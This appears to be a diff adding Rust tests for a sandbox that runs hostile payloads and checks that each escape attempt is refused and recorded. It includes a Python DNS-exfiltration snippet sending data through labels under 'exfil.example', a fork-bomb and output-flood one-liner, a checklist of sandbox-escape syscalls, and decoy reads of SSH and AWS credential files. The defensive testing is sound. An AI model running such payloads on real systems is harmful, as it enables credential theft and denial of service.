@@ -1,0 +1,129 @@
+//! A payload that wants out: every known way is tried in the guest, and what
+//! the trace says of it is held against what the payload was told.
+
+use libtest_mimic::Trial;
+use serde_json::Value;
+
+use crate::support::*;
+
+pub fn tests() -> Vec<Trial> {
+    vec![
+        test("hostile::every_way_out_is_refused_and_recorded", &[Need::Guest], escape),
+        test("hostile::lookups_carry_nothing_out", &[Need::Guest], lookups),
+        test("hostile::fork_bomb_and_flood_end_and_lose_nothing_silently", &[Need::Guest], bomb),
+    ]
+}
+
+/// What each probe must have been told.
+const ANSWERS: &[(&str, &str)] = &[
+    ("x32", "ENOSYS"),
+    ("io_uring_setup", "ENOSYS"),
+    ("clone3", "ENOSYS"),
+    ("unshare", "EPERM"),
+    ("mount", "EPERM"),
+    ("chroot", "EPERM"),
+    ("ptrace", "EPERM"),
+    ("bpf", "EPERM"),
+    ("userfaultfd", "EPERM"),
+    ("keyctl", "EPERM"),
+    ("open_by_handle_at", "EPERM"),
+    ("kill_init", "EPERM"),
+    ("tcp4", "ECONNREFUSED"),
+    ("tcp4_metadata", "ECONNREFUSED"),
+    ("tcp4_private", "ECONNREFUSED"),
+    ("tcp4_fastopen", "ECONNREFUSED"),
+    ("tcp6", "ECONNREFUSED"),
+    ("tcp6_mapped", "ECONNREFUSED"),
+    ("udp4", "ECONNREFUSED"),
+    ("relay", "ECONNRESET"),
+    ("int80", "SIGSYS"),
+    ("chdir", "OK"),
+    ("relative_decoy", "OK"),
+    ("linked_decoy", "OK"),
+    ("memfd_exec", "OK"),
+];
+
+/// Refused one way or another; which errno is the kernel's business.
+const REFUSED: &[&str] = &["vsock", "packet", "raw", "mptcp", "vda", "proc1_environ", "cgroup"];
+
+fn escape() -> Result {
+    let dir = tempfile::tempdir()?;
+    let trace = dir.path().join("t.bjt");
+    let project = repo("fixtures/packages/escape-artist");
+    let script = "gcc -O1 -w -o /tmp/probe probe.c && /tmp/probe";
+    let live = output(&mut run(&project, &trace, &["--", "sh", "-c", script]))?;
+    let report = json(&live)?;
+    let events = events(&trace)?;
+    let printed = terminal(&events);
+    let answer = |name: &str| {
+        let prefix = format!("{name}=");
+        printed.lines().find_map(|line| line.trim().strip_prefix(&prefix).map(str::to_owned))
+    };
+    for (name, expected) in ANSWERS {
+        check(answer(name).as_deref() == Some(*expected), || format!("{name} answered {:?}, not {expected}; all:\n{printed}", answer(name)))?;
+    }
+    for name in REFUSED {
+        check(answer(name).is_some_and(|a| a != "OK"), || format!("{name} answered {:?}; all:\n{printed}", answer(name)))?;
+    }
+    check(report["verdict"] == "malicious", || format!("{}", report["reasons"]))?;
+    check(report["lost"]["events"] == 0, || format!("{}", report["lost"]))?;
+    recorded(&events)?;
+    // Nothing that a terminal obeys leaves through the report.
+    let table = output(belljar(["report"]).arg(&trace))?;
+    let hidden = table.stdout.iter().any(|byte| *byte < 0x20 && *byte != b'\n');
+    check(!hidden, || format!("control characters in the report:\n{}", text(&table.stdout)))
+}
+
+/// The attempts are in the trace, with the names the kernel resolved.
+fn recorded(events: &[Value]) -> Result {
+    let has = |what: &str, test: &dyn Fn(&Value) -> bool| check(events.iter().any(test), || format!("not recorded: {what}"));
+    for call in ["io_uring_setup", "unshare", "mount", "ptrace", "bpf", "userfaultfd", "memfd_create"] {
+        has(call, &|event| event["type"] == call)?;
+    }
+    let file = |event: &Value| event["fact"]["file"].as_str().unwrap_or_default().to_owned();
+    has("the decoy behind a relative path", &|event| event["fact"]["path"] == "id_rsa" && file(event).ends_with("/.ssh/id_rsa"))?;
+    has("the decoy behind a link", &|event| event["fact"]["path"] == "/tmp/a-link/credentials" && file(event).ends_with("/.aws/credentials"))?;
+    has("the refused connect", &|event| event["type"] == "connect" && event["result"] == -111)?;
+    has("the refused datagram", &|event| event["type"] == "sendto" && event["result"] == -111)?;
+    has("the memfd's execution", &|event| event["type"] == "execveat" && event["fact"]["unlinked"] == true)?;
+    has("the death by seccomp", &|event| event["kind"] == "exit" && event["fact"].to_string().contains("31"))?;
+    has("the argument of 64 KiB, as cut", &|event| event["type"] == "execve" && event["fact"]["argv_bytes"].as_u64().is_some_and(|n| n > 65_000))
+}
+
+/// Names with data in their labels: asked, refused, recorded in full, sent nowhere.
+fn lookups() -> Result {
+    let dir = tempfile::tempdir()?;
+    let (trace, project) = (dir.path().join("t.bjt"), dir.path().join("p"));
+    std::fs::create_dir(&project)?;
+    let script = r#"import socket
+label = "a1b2c3d4e5f6" * 4
+for name in (f"{label}.exfil.example", f"{label[:20]}.{label[20:40]}.x.invalid"):
+    try:
+        socket.getaddrinfo(name, 443); print("resolved", name)
+    except socket.gaierror as e:
+        print("refused", name)
+"#;
+    let live = output(&mut run(&project, &trace, &["--", "python3", "-c", script]))?;
+    let report = json(&live)?;
+    let printed = terminal(&events(&trace)?);
+    check(printed.matches("refused").count() == 2 && !printed.contains("resolved"), || printed.clone())?;
+    let names = report["names"].to_string();
+    check(names.contains(&"a1b2c3d4e5f6".repeat(4)) && names.contains("x.invalid"), || names.clone())?;
+    check(report["network"]["flows"] == 0 && report["verdict"] != "safe", || format!("{} {}", report["verdict"], report["network"]))
+}
+
+/// More processes and more output than anyone wants.
+fn bomb() -> Result {
+    let dir = tempfile::tempdir()?;
+    let (trace, project) = (dir.path().join("t.bjt"), dir.path().join("p"));
+    std::fs::create_dir(&project)?;
+    let script = "yes flood | head -c 2000000; for i in $(seq 300); do (sleep 5 &) 2>/dev/null; done; echo done-here";
+    let live = output(&mut run(&project, &trace, &["--pids", "128", "--", "sh", "-c", script]))?;
+    let report = json(&live)?;
+    let verified = output(belljar(["verify"]).arg(&trace))?;
+    check(code(&verified) == 0, || text(&verified.stdout))?;
+    // Whatever was lost is told and keeps the run from being SAFE.
+    let lost = report["lost"]["events"].as_u64().unwrap_or(0);
+    check(lost == 0 || report["verdict"] != "safe", || format!("lost {lost} and {}", report["verdict"]))?;
+    check(report["processes"]["started"].as_u64().is_some_and(|n| n > 50), || format!("{}", report["processes"]))
+}
